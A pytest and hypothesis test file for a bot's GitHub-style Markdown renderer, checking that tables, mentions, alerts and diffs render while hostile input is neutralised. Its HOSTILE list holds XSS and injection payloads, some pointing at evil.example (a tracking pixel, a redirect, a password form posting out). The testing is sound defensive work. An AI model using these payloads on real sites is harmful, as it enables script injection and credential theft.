"""What GitHub keeps is kept; what could run, load or lead astray is not."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.demo.markdown import as_shown, diff_lines

KEPT = {
    "a table": ("| a |\n|--:|\n| `x\\|y` |", '<td align="right"><code>x|y</code></td>'),
    "a task": ("- [x] done", '<input type="checkbox" checked="" disabled="">'),
    "a fold": ("<details><summary>More</summary>\n\n*in*\n\n</details>", "<summary>More</summary>"),
    "Markdown in a fold": ("<details><summary>x</summary>\n\n*in*\n\n</details>", "<em>in</em>"),
    "an alert": ("> [!TIP]\n> Mind.", '<div class="alert alert-tip"><p class="alert-title">Tip</p>'),
    "a quote": ("> just a quote", "<blockquote>"),
    "a line end": ("one\ntwo", "one<br>"),
    "strike": ("~~no~~", "<del>no</del>"),
    "a link": ("[x](https://example.org/)", '<a href="https://example.org/" rel="nofollow noopener">x</a>'),
    "a bare link": ("see https://example.org/ now", 'href="https://example.org/"'),
    "a mention": ("thanks @maja!", '<a class="mention">@maja</a>!'),
    "a mention in disguise": ("thanks &#64;maja", '<a class="mention">@maja</a>'),
    "a diff": ("```diff\n-a\n+b\n```", '<span class="removed">-a\n</span><span class="added">+b\n</span>'),
}


@pytest.mark.parametrize(("markdown", "expected"), KEPT.values(), ids=KEPT)
def test_github_s_markdown_is_shown(markdown: str, expected: str) -> None:
    assert expected in as_shown(markdown)


NO_MENTIONS = [
    "`@maja`",
    "```\n@maja\n```",
    "a@maja.org",
    "[@maja](https://x.org)",
    "@-maja",
    "x/@maja",
]


@pytest.mark.parametrize("markdown", NO_MENTIONS)
def test_what_calls_nobody_does_not_look_like_it(markdown: str) -> None:
    assert 'class="mention"' not in as_shown(markdown)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,AAAA)",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<form action=https://evil.example><input type=password><button>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "</div></div></main><h1>not ours</h1>",
    "```diff\n+</code></pre><script>alert(1)</script>\n```",
    "> [!NOTE]<script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "<pre lang='diff\"><script>alert(1)</script>'>x</pre>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<span class='mention' id=x>@maja</span>",
]
_ALLOWED = {
    "href", "rel", "title", "open", "type", "checked", "disabled", "start", "lang", "align", "class",
}  # fmt: skip

_LOADING = set("script img iframe style svg math form base meta link button".split())


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name == "href"}
        if tag == "input":
            assert ("type", "checkbox") in attrs or "type" not in dict(attrs)


def is_harmless(shown: str) -> bool:
    seen = Seen()
    seen.feed(shown)
    loads = seen.tags & _LOADING
    astray = [url for url in seen.addresses if not re.match(r"(https?:|mailto:|[^:]*$)", url)]
    return not loads and not astray and seen.attributes <= _ALLOWED


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_runs_loads_or_leads_astray(markdown: str) -> None:
    assert is_harmless(as_shown(markdown))


PIECES = [*"<>\"'&/=` \n!-[]()@:#|x", *HOSTILE, "&lt;", "<!--", "```diff\n"]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_nor_does_any_mixture_of_them(markdown: str) -> None:
    assert is_harmless(as_shown(markdown))


def test_markup_of_a_comment_stays_inside_it() -> None:
    shown = as_shown("</div></article></body>\n\n<details><summary>never closed")
    assert shown.count("<details>") == shown.count("</details>") == 1
    assert "</body>" not in shown
    assert "</article>" not in shown


def test_the_lines_of_a_diff_are_told_apart() -> None:
    shown = diff_lines("--- a\n+++ b\n@@ -1 +1 @@\n-<b>\n+&\n same\n")
    assert re.findall(r'class="(\w+)"', shown) == ["diff", "file", "file", "hunk", "removed", "added", "same"]
    assert "-&lt;b&gt;" in shown
